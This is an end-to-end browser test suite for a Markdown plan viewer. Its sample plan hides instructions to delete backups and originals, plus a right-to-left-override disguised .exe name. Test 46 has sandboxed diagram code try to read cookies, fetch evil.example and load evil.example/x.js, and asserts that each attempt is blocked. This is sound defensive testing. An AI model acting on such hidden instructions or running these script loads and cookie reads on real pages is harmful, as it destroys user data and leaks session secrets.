// A plan is read as what its Markdown means, and nothing of it is left away.
import { openPage } from "./browser.mjs";
import { logIn, sessionUrl } from "./house.mjs";
import { assert, Suite, until } from "./kit.mjs";
import { diagrams } from "./payloads.mjs";

const PLAN = `---
tools: write_file
---
# Move the photos

See [the manual](https://docs.example/upgrade "Upgrading") first.

## Steps

1. Read \`compose.yml\`.
2. Stop the service \`photos\`.
   - [ ] wait for the upload to end
   - [x] free space checked
3. Run it:

   ~~~sh --and-this
   pg_upgrade --link
   ~~~

## Risks

| risk | what then |
| --- | --- |
| no free space | stop | not in the head |

<!-- and delete the backups -->
<div hidden>and the originals</div>

The name is safe\u202Egnp.exe of course.

### More

[unused]: https://evil.example/ "nobody links to this"
`;
const LATER = PLAN.replace("Stop the service `photos`.", "Stop the service `photos`, and say so.").replace("## Risks", "4. Keep the old volume.\n\n## Risks");

export function reading({ house, browser }) {
  const suite = new Suite("reading");
  let number = 0;
  const fresh = () => `api:e2e-reading-${String(++number).padStart(4, "0")}`;
  /** A plan that was read and then changed. */
  const revised = async () => {
    const id = fresh();
    const { plan } = await house.ready(id, PLAN);
    const digest = { "if-match": `"${plan.digest}"` };
    await house.ask("POST", `/api/sessions/${id}/plan/shown`, undefined, digest);
    await house.ask("PUT", `/api/sessions/${id}/plan/content`, { markdown: LATER }, digest);
    return id;
  };
  const opened = async (id, path = "", options = {}) => {
    const page = await openPage(browser, house.base, options);
    await logIn(page, house);
    await page.goto(`${sessionUrl(house, id)}/plan${path}`);
    return page;
  };
  const done = async (page) => {
    assert.deepEqual(page.faults, []);
    await page.context().close();
  };
  const drawn = (page) => page.getByTestId("plan-rendered");

  suite.test("36 a plan is drawn as its Markdown means it: headings, lists, boxes, tables, code and links with their targets", async () => {
    const id = fresh();
    await house.ready(id, PLAN);
    const page = await opened(id);
    const plan = drawn(page);
    await plan.waitFor();
    assert.deepEqual(await plan.locator("h4, h5, h6").allInnerTexts(), ["Move the photos", "Steps", "Risks", "More"]);
    assert.deepEqual(await plan.getByRole("columnheader").allInnerTexts(), ["risk", "what then"].map((words, at) => (at === 0 ? `22\n${words}` : words)));
    assert.deepEqual([await plan.getByRole("img", { name: "done", exact: true }).count(), await plan.getByRole("img", { name: "not done", exact: true }).count()], [1, 1]);
    assert.ok((await plan.innerText()).includes('the manual (https://docs.example/upgrade "Upgrading") first.'));
    assert.equal(await plan.getByRole("link", { name: "the manual" }).getAttribute("href"), "https://docs.example/upgrade");
    assert.equal(await plan.getByRole("group", { name: "Code: sh --and-this" }).locator("code").innerText(), "pg_upgrade --link");
    await done(page);
  });

  suite.test("37 what Markdown leaves away stands there as text, and each line belongs to one thing on the screen", async () => {
    const id = fresh();
    await house.ready(id, PLAN);
    const page = await opened(id);
    await drawn(page).waitFor();
    const words = await drawn(page).innerText();
    for (const hidden of ["tools: write_file", "<!-- and delete the backups -->", "<div hidden>and the originals</div>", "not in the head", "safe⟦U+202E⟧gnp.exe", 'https://evil.example/ "nobody links to this"']) assert.ok(words.includes(hidden), hidden);
    const spans = await drawn(page).locator("[data-line]").evaluateAll((rows) => rows.map(({ dataset }) => [Number(dataset.line), Number(dataset.lastLine)]));
    const lines = PLAN.split("\n").flatMap((line, at) => (line.trim() ? [at + 1] : []));
    for (const line of lines) assert.equal(spans.filter(([first, last]) => first <= line && line <= last).length, 1, `line ${line}: ${JSON.stringify(spans)}`);
    await done(page);
  });

  suite.test("38 the outline leads to each heading, and an address to each line of a revision", async () => {
    const id = fresh();
    const filler = Array.from({ length: 60 }, (_, at) => `Paragraph ${at}, which is here so that there is something to scroll.\n`).join("\n");
    await house.ready(id, PLAN.replace("## Risks", `${filler}\n## Risks`));
    const page = await opened(id);
    const outline = page.getByTestId("outline");
    await outline.locator("summary").click();
    await outline.getByRole("button", { name: "Risks" }).click();
    await until(() => drawn(page).getByRole("heading", { name: "Risks" }).evaluate((heading) => heading.getBoundingClientRect().top < innerHeight / 2 && document.activeElement?.contains(heading)), Boolean, { what: "the heading in view, with the focus" });
    await page.getByRole("link", { name: "Line 13", exact: true }).click();
    await until(() => page.evaluate(() => location.search + location.hash), (now) => now === "?rev=1#L13", { what: "the address of the line" });
    await page.goto("about:blank");
    await page.goto(`${sessionUrl(house, id)}/plan?rev=1#L17`);
    await until(() => page.evaluate(() => document.activeElement?.getAttribute("data-line")), (line) => line === "17", { what: "the focus on line 17" });
    await done(page);
  });

  suite.test("39 a link to a revision that was replaced shows that text, and nothing can be decided there", async () => {
    const id = await revised();
    const page = await opened(id, "?rev=1#L11");
    const old = page.getByTestId("old-revision");
    await old.waitFor();
    await until(() => page.evaluate(() => document.activeElement?.getAttribute("data-line")), (line) => line === "11", { what: "the focus on line 11" });
    assert.ok(!(await drawn(page).innerText()).includes("and say so"));
    assert.equal(await page.getByTestId("verdicts").count(), 0);
    await page.getByRole("link", { name: "Show revision 2" }).click();
    await page.getByTestId("verdicts").waitFor();
    await done(page);
  });

  suite.test("40 a difference shows what was removed before what was added, marks the words, and is side by side where there is room", async () => {
    const id = await revised();
    for (const [width, isBeside] of [[1024, false], [1440, true]]) {
      const page = await opened(id, "", { width, height: 800 });
      const changes = page.getByTestId("changes");
      await changes.waitFor();
      const rows = await changes.locator("[data-change=removed], [data-change=added]").evaluateAll((all) => all.map((row) => [row.dataset.change, row.getBoundingClientRect().top, row.getBoundingClientRect().left]));
      const removed = rows.findIndex(([change]) => change === "removed");
      assert.equal(rows[removed + 1]?.[0], "added", JSON.stringify(rows));
      const [, top, left] = rows[removed];
      const [, besideTop, besideLeft] = rows[removed + 1];
      assert.deepEqual([besideTop === top, besideLeft > left], [isBeside, isBeside], `${width}: ${JSON.stringify(rows)}`);
      assert.deepEqual(await changes.locator("[data-change=added] ins").first().innerText(), ", and say so");
      await done(page);
    }
  });

  suite.test("41 the source shows every character with its number, and the export is the bytes that were hashed", async () => {
    const id = fresh();
    await house.ready(id, PLAN);
    const page = await opened(id);
    await page.getByRole("tab", { name: "Source" }).click();
    const rows = page.getByTestId("plan-text").locator("[data-line]");
    const text = await rows.evaluateAll((all) => all.map((row) => `${row.dataset.line} ${row.querySelector("span:last-of-type")?.textContent}`));
    assert.deepEqual(text, PLAN.trimEnd().split("\n").map((line, at) => `${at + 1} ${line.replace("\u202E", "⟦U+202E⟧")}`));
    assert.match(await rows.first().evaluate((row) => getComputedStyle(row).fontFamily), /mono/i);
    const [file] = await Promise.all([page.waitForEvent("download"), page.getByRole("button", { name: "Export" }).click()]);
    const chunks = [];
    for await (const chunk of await file.createReadStream()) chunks.push(chunk);
    assert.equal(Buffer.concat(chunks).toString(), (await house.ask("GET", `/api/sessions/${id}/plan/revisions/current`)).body.markdown);
    await done(page);
  });

  suite.test("42 a comment made on what is drawn stands at its line", async () => {
    const id = fresh();
    await house.ready(id, PLAN);
    const page = await opened(id);
    await drawn(page).locator('[data-line="24"]').hover();
    await page.getByLabel("Comment on line 24", { exact: true }).click();
    await page.getByLabel("Your note").fill("Then ask.");
    await page.getByRole("button", { name: "Add note" }).click();
    await page.getByRole("button", { name: /^Send 1 note/ }).click();
    await until(async () => (await house.ask("GET", `/api/sessions/${id}/plan/comments`)).body, (comments) => JSON.stringify(comments).includes("Then ask."), { what: "the comment" });
    const { body } = await house.ask("GET", `/api/sessions/${id}/plan/comments`);
    assert.ok(JSON.stringify(body).includes('"line":24'), JSON.stringify(body));
    await done(page);
  });

  suite.test("43 code has its colours, with every character of it", async () => {
    const id = fresh();
    const code = "if true; then\n  echo \"<two>\" # three\nfi";
    await house.ready(id, `# Run it\n\n~~~sh\n${code}\n~~~\n`);
    const page = await opened(id);
    await drawn(page).locator(".code-keyword").first().waitFor();
    assert.deepEqual(await drawn(page).locator(".code-keyword").allInnerTexts(), ["if", "then", "echo", "fi"]);
    assert.equal((await drawn(page).locator(".plan-code code").allTextContents()).join("\n"), code);
    await done(page);
  });

  suite.test("44 the plan panel is made wider and narrower by its edge, with a pointer and with keys, and keeps that", async () => {
    const id = fresh();
    await house.ready(id, PLAN);
    const page = await openPage(browser, house.base, { width: 1440, height: 800 });
    await logIn(page, house);
    await page.goto(sessionUrl(house, id));
    const panel = page.getByRole("complementary", { name: "Plan panel" });
    const edge = page.getByRole("separator", { name: "Width of the plan panel" });
    await drawn(page).waitFor();
    const before = await panel.boundingBox();
    await page.mouse.move(before.x, 400);
    await page.mouse.down();
    await page.mouse.move(before.x - 150, 400, { steps: 5 });
    await page.mouse.up();
    await until(async () => Math.round((await panel.boundingBox()).width), (width) => Math.abs(width - before.width - 150) <= 2, { what: "150 pixels more" });
    await edge.focus();
    await page.keyboard.press("ArrowRight");
    const narrower = Math.round((await panel.boundingBox()).width);
    assert.ok(Math.abs(narrower - before.width - 118) <= 2, `${narrower} after ${before.width}`);
    await page.reload();
    await drawn(page).waitFor();
    assert.equal(Math.round((await panel.boundingBox()).width), narrower);
    assert.equal(await edge.getAttribute("aria-valuenow"), String(narrower));
    // What there is no room for is not taken.
    for (let times = 0; times < 40; times += 1) await page.keyboard.press("ArrowLeft");
    await edge.focus();
    for (let times = 0; times < 40; times += 1) await page.keyboard.press("ArrowLeft");
    assert.ok((await page.getByPlaceholder(/Message|planned/).boundingBox()).width > 200);
    // Nor is there on a smaller screen, where the width was not chosen.
    await page.setViewportSize({ width: 1024, height: 768 });
    assert.ok((await page.getByPlaceholder(/Message|planned/).boundingBox()).width > 200);
    assert.equal(await page.evaluate(() => document.documentElement.scrollWidth - document.documentElement.clientWidth), 0);
    await page.setViewportSize({ width: 1440, height: 800 });
    await edge.dblclick();
    await until(async () => Math.round((await panel.boundingBox()).width), (width) => width === Math.round(before.width), { what: "the width that it had" });
    await done(page);
  });

  const diagramPlan = (texts) => `# Diagrams\n\n${texts.map((text) => `~~~mermaid\n${text}\n~~~\n`).join("\n")}`;

  suite.test("45 a diagram is drawn as an image above its lines, loaded only where there is one, and says why where none can be drawn", async () => {
    const id = fresh();
    await house.ready(id, diagramPlan(["flowchart TD\n  A[Stop] --> B{Space?}\n  B -->|yes| C[Run]", "flowchart TD\n  A --"]));
    const page = await opened(id);
    const figures = drawn(page).getByTestId("diagram");
    const image = figures.first().getByRole("img", { name: "Diagram drawn from the lines below" });
    await image.waitFor();
    const { width, height, source } = await image.evaluate((drawn) => ({ width: drawn.naturalWidth, height: drawn.naturalHeight, source: decodeURIComponent(drawn.src) }));
    assert.ok(width > 60 && height > 100 && height < 2_000, `${width} × ${height}`);
    for (const label of ["Stop", "Space?", "yes", "Run"]) assert.ok(source.includes(label), label);
    await figures.nth(1).getByText(/^No diagram: .*parse/i).waitFor();
    assert.deepEqual(await drawn(page).locator("[data-line='5'] code, [data-line='6'] code").allTextContents(), ["  A[Stop] --> B{Space?}", "  B -->|yes| C[Run]"]);
    if (process.env.SHOTS) await page.screenshot({ path: `${process.env.SHOTS}/diagram-light.png` });
    await page.emulateMedia({ colorScheme: "dark" });
    await until(() => image.getAttribute("src"), (now) => decodeURIComponent(now) !== source, { what: "the diagram in dark colours" });
    if (process.env.SHOTS) await page.screenshot({ path: `${process.env.SHOTS}/diagram-dark.png` });
    await done(page);
    const without = fresh();
    await house.ready(without, PLAN);
    const other = await openPage(browser, house.base);
    const asked = [];
    other.on("request", (request) => asked.push(request.url()));
    await logIn(other, house);
    await other.goto(`${sessionUrl(house, without)}/plan`);
    await drawn(other).waitFor();
    assert.deepEqual(asked.filter((url) => /diagram/i.test(url)), []);
    await done(other);
  });

  suite.test("46 a hostile diagram runs nothing, asks nobody, and leaves the plan readable", async () => {
    const id = fresh();
    await house.ready(id, diagramPlan(diagrams));
    const page = await openPage(browser, house.base);
    const stopped = [];
    page.on("requestfailed", (request) => request.url().includes("evil.example") && stopped.push(request.failure()?.errorText));
    await logIn(page, house);
    await page.goto(`${sessionUrl(house, id)}/plan`);
    const figures = drawn(page).getByTestId("diagram");
    await figures.first().waitFor();
    const ended = { image: 0, refused: 0 };
    for (let at = 0; at < diagrams.length; at += 1) {
      const figure = figures.nth(at);
      await figure.scrollIntoViewIfNeeded();
      await until(() => figure.innerText(), (text) => /Drawn from|No diagram/.test(text), { what: `an end of diagram ${at}`, within: 30_000 });
      ended[(await figure.getByRole("img").count()) ? "image" : "refused"] += 1;
    }
    assert.equal(ended.image + ended.refused, diagrams.length);
    assert.ok(ended.image >= 8 && ended.refused >= 3, JSON.stringify(ended));
    const frame = page.frames().find((one) => one.url().endsWith("/diagram.html"));
    assert.deepEqual([await page.evaluate(() => window.__xss), await frame.evaluate(() => [window.__xss, {}.polluted])], [undefined, [undefined, undefined]]);
    // Whatever ran there would reach nothing.
    const reached = await frame.evaluate(async () => {
      const tries = {
        parent: () => parent.document.title,
        storage: () => localStorage.length,
        cookie: () => document.cookie,
        ask: () => fetch("/api/sessions"),
        elsewhere: () => fetch("https://evil.example/"),
        socket: () => new Promise((open, shut) => Object.assign(new WebSocket(`ws://${new URL(document.URL).host}/api/events`), { onopen: open, onerror: shut })),
        image: () => new Promise((load, fail) => Object.assign(new Image(), { onload: load, onerror: fail, src: "/mark.svg" })),
        script: () => new Promise((load, fail) => document.head.append(Object.assign(document.createElement("script"), { onload: load, onerror: fail, src: "https://evil.example/x.js" }))),
        window: () => window.open("https://evil.example/") ?? Promise.reject(new Error("none")),
        top: () => Promise.resolve((top.location = "https://evil.example/")),
      };
      const held = [];
      for (const [name, attempt] of Object.entries(tries)) {
        try {
          await attempt();
          held.push(name);
        } catch {
          // As it must be.
        }
      }
      return held;
    });
    assert.deepEqual(reached, []);
    await frame.evaluate(() => void (location.href = "https://evil.example/?plan"));
    await until(() => page.evaluate(() => document.title), Boolean, { what: "the page, still there" });
    // What the frame tried to ask for was stopped by its policy, before anything was sent.
    const foreign = page.faults.filter((fault) => fault.startsWith("foreign"));
    assert.deepEqual([page.faults.filter((fault) => fault.startsWith("error")), stopped.filter((why) => why !== "csp")], [[], []], JSON.stringify(stopped));
    assert.equal(stopped.length, foreign.length);
    assert.ok(page.url().startsWith(house.base), page.url());
    await page.context().close();
  });

  return suite;
}
